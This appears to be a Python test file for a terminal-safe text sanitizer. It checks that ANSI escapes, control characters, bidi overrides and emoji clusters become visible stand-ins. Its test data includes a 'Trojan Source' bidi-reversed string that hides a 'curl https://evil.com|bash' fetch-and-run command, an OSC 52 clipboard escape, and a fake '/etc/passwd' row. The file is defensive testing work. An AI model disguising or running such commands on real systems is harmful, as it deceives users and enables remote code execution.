"""The one function that makes session text safe to show (pitui.core.text)."""

from pitui.core.text import clean, has_controls, strip_ansi, visible


def test_c0_del_and_c1_become_visible_stand_ins():
    assert visible("a\x1b]52;c;aGk=\x07b") == "a^[]52;c;aGk=^Gb"
    assert visible("x\x7fy") == "x^?y"
    assert visible("\x9b2J") == "\\x9b2J"
    assert visible("\x00\x1f") == "^@^_"


def test_rows_never_keep_a_newline_or_tab():
    assert visible("/home/a\nfake row\tx") == "/home/a^Jfake row^Ix"
    assert visible("a\r\nb") == "a^M^Jb"


def test_blocks_keep_lines_and_tabs():
    assert visible("a\n\tb\r\nc\rd", block=True) == "a\n\tb\nc^Md"
    assert visible("\x1b[2J\n", block=True) == "^[[2J\n"


def test_line_and_paragraph_separators_are_stand_ins_in_a_row_only():
    # (line breaks to JavaScript and to tools that split on them: a row could fake a second)
    assert visible("a\u2028/etc/passwd:1: b\u2029c") == "a\\u2028/etc/passwd:1: b\\u2029c"
    assert has_controls("a\u2028")
    assert visible("a\u2028b", block=True) == "a\u2028b"


def test_printable_unicode_is_left_alone():
    s = "héllo ✓ 漢字 🙂 \u00a0"
    assert visible(s) is s  # the very string: nothing to replace, nothing copied
    assert not has_controls(s)


def test_lone_surrogates_become_replacement_characters():
    assert visible("a\ud800b") == "a\ufffdb"
    assert visible("a\udfff", block=True) == "a\ufffd"


def test_non_strings():
    assert visible(None) == ""
    assert visible(12) == "12"
    assert visible({"a": "\x1b"}) == "{'a': '\\x1b'}"  # repr escapes it already


def test_strip_ansi_then_visible():
    assert strip_ansi("\x1b[32mok\x1b[0m") == "ok"
    assert clean("\x1b[32mok\x1b[0m \x1b]0;title\x07 \x9b2J\x07") == "ok  \\x9b2J^G"
    assert not has_controls(clean("\x1b[1m\x1b", block=True))


TROJAN = "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c"  # shown as: cat notes.md # curl https://evil.com|bash.sh


def test_bidi_controls_are_stand_ins_in_rows_and_blocks():
    """Issue 33, hole 7: an override shown raw makes a terminal draw text in another order
    than it is stored ("Trojan Source"); every embedding, override and isolate is a stand-in."""
    want = "cat notes.md \\u202ehs.hsab|moc.live//:sptth lruc #\\u202c"
    assert visible(TROJAN) == want
    assert visible(TROJAN + "\nnext", block=True) == want + "\nnext"
    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    assert visible(bidi) == "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069"
    assert has_controls(TROJAN)
    # right-to-left letters and the marks they need are text, not controls
    assert visible("שלום مرحبا \u200f") == "שלום مرحبا \u200f"


def test_json_output_escapes_bidi_controls_and_stays_the_same_value():
    import orjson

    from pitui.core.text import json_safe

    data = orjson.dumps({"command": TROJAN, "dash": "a — b “c”"})
    safe = json_safe(data)
    assert "\u202e".encode() not in safe and b"\\u202e" in safe and b"\\u202c" in safe
    assert orjson.loads(safe) == orjson.loads(data)
    assert "—".encode() in safe  # (other characters that start with the same byte stay raw)


def test_clusters_terminals_draw_at_other_widths_are_shown_as_all_draw_them():
    """Issue 33, hole 9: an emoji with VS16, a joined (ZWJ) sequence, a flag and the Hangul
    fillers are one width to the width table and another on many terminals, so a row holding
    one spilled past its panel. Shown as every terminal draws alike: the selector and the
    joiner dropped, a flag's letters, a filler's code; the width table then agrees."""
    from rich.cells import cell_len

    got = visible("\u2764\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1f8 a\u3164b\u115f\u1160\uffa0")
    assert got == "\u2764 \U0001f468\U0001f469\U0001f467 US a\\u3164b\\u115f\\u1160\\uffa0"
    assert cell_len(got) == 1 + 1 + 6 + 1 + 2 + 1 + 8 + 18
    assert visible("1\ufe0f\u20e3\n\U0001f3f3\ufe0f\u200d\U0001f308", block=True) == "1\u20e3\n\U0001f3f3\U0001f308"
    assert visible("plain 😀 text") == "plain 😀 text"
